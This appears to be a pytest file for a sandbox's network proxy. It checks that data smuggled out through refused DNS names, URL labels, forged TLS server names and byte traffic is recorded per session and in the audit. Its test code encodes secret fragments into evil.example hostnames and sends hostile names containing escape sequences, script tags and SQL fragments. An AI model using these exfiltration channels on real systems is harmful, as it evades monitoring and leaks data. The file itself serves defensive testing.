# SPDX-License-Identifier: Apache-2.0
"""126. Code inside carries data out by names, addresses of pages and names in ClientHellos that are refused, and by bytes to hosts that are allowed => every name, decision
and number of bytes is in the result, in the ledger of the session and in the audit, by box; and a flood of names does not hide the others.
"""
import pytest
from internet import CLIENT, SILENCE, answers, internet, net_box, net_server  # noqa: F401


def rows(network):
    return {(row["host"], row["port"], row["decision"]): row for row in network["hosts"]}


def test_denied_names(internet, net_box):
    """They are refused before they are looked up: a name is not even a question of DNS."""
    before = len(internet.names.asked)
    code = CLIENT + """
import base64
for i, label in enumerate(("c2VjcmV0LXBhcnQtMQ", "c2VjcmV0LXBhcnQtMg")):
    status_of(f"{label}.evil.example:443")
    get(f"http://{label}.evil.example/path?{label}")
    socks(f"{label}.evil.example", 53)
report(1)
"""
    result = net_box.run(code, allow="a.example.com")
    found = rows(result.json["network"])
    for label in ("c2vjcmv0lxbhcnqtmq", "c2vjcmv0lxbhcnqtmg"):
        assert {(f"{label}.evil.example", port, "no-rule") for port in (443, 80, 53)} <= set(found), result.json["network"]
    assert internet.names.asked[before:] == [] and result.json["network"]["denied"] == 6


def test_server_names(internet, net_box):
    """The name in a ClientHello that is not the host's is what somebody wanted to say to an upstream."""
    internet.raw("a.example.com", lambda plain: plain.recv(1))
    code = CLIENT + """
s, status, text = connect("a.example.com:443")
try:
    ssl.create_default_context().wrap_socket(s, server_hostname="stolen.evil.example")
except OSError:
    pass
report(status)
"""
    result = net_box.run(code, allow="a.example.com")
    assert answers(result) == [200]
    assert rows(result.json["network"])["stolen.evil.example", 443, "server-name"]["requests"] == 1, result.json["network"]


def test_bytes(internet, net_box):
    """Up and down, as they were."""
    def echo(plain):
        total = 0
        while total < 100_000:
            total += len(plain.recv(65536))
        plain.sendall(b"y" * 300_000)

    internet.raw("a.example.com", echo, port=9000)
    code = CLIENT + "s, status, text = connect('a.example.com:9000')\ns.sendall(b'x' * 100_000)\nreport(len(read_all(s)))"
    result = net_box.run(code, allow="tcp://a.example.com:9000")
    assert answers(result) == [300_000]
    network = result.json["network"]
    row = rows(network)["a.example.com", 9000, "allowed"]
    assert (row["bytes_up"], row["bytes_down"], row["requests"]) == (100_000, 300_000, 1) and row["rule"] == "tcp://a.example.com:9000", row
    assert (network["bytes_up"], network["bytes_down"], network["requests"], network["denied"]) == (100_000, 300_000, 1, 0)


def test_flood_of_names(internet, net_box):
    """A thousand names: the first ones have rows, the rest is counted together."""
    code = CLIENT + "for i in range(1000): status_of(f'n{i}.evil.example:443')\nreport(1)"
    result = net_box.run(code, allow="a.example.com")
    network = result.json["network"]
    assert network["requests"] == network["denied"] == 1000 and sum(row["requests"] for row in network["hosts"]) == 1000
    assert 100 <= len(network["hosts"]) <= 257 and rows(network)["n0.evil.example", 443, "no-rule"]


def test_flood_of_names_that_pass(internet, net_box):
    """Names that a rule lets pass and nobody knows: the host that is reached after them has its row all the same."""
    site = internet.site("real.b.com", tls=False)
    code = CLIENT + "for i in range(260): get(f'http://n{i}.a.com/')\nreport(get('http://real.b.com/carried')[0])"
    result = net_box.run(code, allow=["http://*.a.com", "http://real.b.com"])
    network = result.json["network"]
    assert answers(result) == [200] and [r.path for r in site.requests] == ["/carried"]
    assert rows(network)["real.b.com", 80, "allowed"]["requests"] == 1, network
    assert network["requests"] == sum(row["requests"] for row in network["hosts"]) == 261


@pytest.mark.parametrize("when", ["resolved", "dialled"])
def test_gone_before_the_answer(internet, net_box, when):
    """A name that was asked for has been told to somebody, also when the client is gone before it leads anywhere: it is counted, and the budget ends it."""
    for i in range(20):
        internet.names[f"data{i}.a.com"] = SILENCE if when == "resolved" else [f"198.50.1.{i + 1}"]
    before = len(internet.names.asked)
    code = CLIENT + """
import struct, time
for i in range(20):
    s = dial()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    host = f"data{i}.a.com"
    s.sendall(f"GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
    time.sleep(0.05)
    s.close()
time.sleep(0.5)
report(1)
"""
    result = net_box.run(code, allow=["http://*.a.com"], network_requests="3")
    network = result.json["network"]
    names = {name for name, _ in internet.names.asked[before:]}
    assert answers(result) == [1] and network["cut"] == "requests", network
    # On a busy machine a request may be gone before the proxy has read it: then a later one is among the three.
    assert len(names) == 3 and names <= {f"data{i}.a.com" for i in range(20)}, names
    told = {row["host"] for row in network["hosts"] if row["decision"] not in ("requests", "no-rule")}
    assert told == names, network


def test_hostile_names(internet, net_box):
    """Names go to logs and screens: what is not a name does not get there as one."""
    names = ["\x1b[2J.evil", "a\nb.evil", "\u202eevil", "<script>", "%n%n", "'; drop", "a" * 300, "\x7f.evil"]
    code = CLIENT + f"for name in {names!r}: ask(b'CONNECT ' + name.encode() + b':443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')\nreport(1)"
    result = net_box.run(code, allow="a.example.com")
    assert answers(result) == [1] and result.json["network"]["denied"] == len(names), result.json["network"]
    for row in result.json["network"]["hosts"]:
        assert row["decision"] == "malformed" or all(c.isalnum() or c in ".-_:" for c in row["host"]), row
        assert row["host"].isprintable() or row["host"] == ""


def test_by_box(internet, net_server):
    """Each session has its own; the audit of the server has them, too."""
    internet.site("a.example.com", tls=False)
    policy = {"network_mode": "allowlist", "network_allow": ["http://a.example.com"]}
    first, second = net_server.session(policy=policy), net_server.session(policy=policy)
    net_server.run(CLIENT + "report(get('http://a.example.com/'), get('http://first.evil.example/'))", first)
    net_server.run(CLIENT + "report(get('http://second.evil.example/'))", second)
    ledgers = [rows(net_server.get(f"/v1/sessions/{session}/network").expect(200).json) for session in (first, second)]
    assert set(ledgers[0]) == {("a.example.com", 80, "allowed"), ("first.evil.example", 80, "no-rule")} and set(ledgers[1]) == {("second.evil.example", 80, "no-rule")}, ledgers
    audit = net_server.get("/v1/audit").body
    assert b"first.evil.example" in audit and b"second.evil.example" in audit, audit[-3000:]
    for session in (first, second):
        net_server.delete(f"/v1/sessions/{session}").expect(204)
